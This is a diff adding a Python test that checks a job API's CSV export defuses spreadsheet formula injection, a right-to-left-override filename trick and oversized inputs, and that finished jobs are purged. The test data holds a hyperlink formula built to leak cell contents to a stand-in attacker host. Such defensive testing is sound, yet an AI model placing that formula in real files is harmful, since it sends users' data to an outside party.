@@ -345,3 +345,37 @@ async def test_redis_without_a_shared_database_runs_jobs_in_the_api_and_says_why
     assert health["queue"] == "in-process" and "DATABASE_URL" in health["reason"]
     with pytest.raises(ValidationError, match="JOB_QUEUE=redis needs DATABASE_URL"):
         make_settings(tmp_path, REDIS_URL=redis_server.url, JOB_QUEUE="redis")
+
+
+async def test_csv_cells_never_open_as_formulas_and_refused_items_are_short_and_purged(tmp_path, minilm):
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    settings = make_settings(tmp_path, AUTO_SEED=False)
+    async with app_client(settings, embedder=minilm) as client:
+        created = await client.post("/api/jobs", json={"options": {"web_search": False}, "items": [
+            {"id": "+1", "claim": hostile}, {"id": "@x", "claim": "-5 degrees is cold \u202egnp.exe"},
+            {"id": "big", "claim": "x" * 1_000_000}]})
+        assert created.status_code == 202, created.text
+        job_id = created.json()["id"]
+        assert created.json()["rejected"][0]["id"] == "big"
+        await wait_for(client, job_id, ended)
+        exported = await client.get(f"/api/jobs/{job_id}/results", params={"format": "csv"})
+        rows = await results(client, job_id)
+        store = client.app.state.jobs.store
+        kept = await store.purge_finished(time.time() - 3600)  # ended just now: not old enough
+        purged = await store.purge_finished(time.time() + 1)
+        gone = await client.get(f"/api/jobs/{job_id}")
+    table = list(csv.reader(io.StringIO(exported.text)))
+    cells = {row[0]: row for row in table[1:]}
+    assert cells["'+1"][1] == "'" + hostile  # text in a spreadsheet, never a formula
+    assert cells["'@x"][1] == "'-5 degrees is cold \\u202egnp.exe"  # the bidi override shown, not obeyed
+    big = next(r for r in rows if r["id"] == "big")
+    assert big["status"] == "failed" and len(big["claim"]) == 500
+    assert (kept, purged) == (0, 1) and gone.status_code == 404
+    async with store.engine.connect() as connection:
+        from sqlalchemy import func, select
+
+        from jobs.store import items_table
+
+        left = (await connection.execute(select(func.count()).select_from(items_table)
+                                         .where(items_table.c.job_id == job_id))).scalar_one()
+    assert left == 0
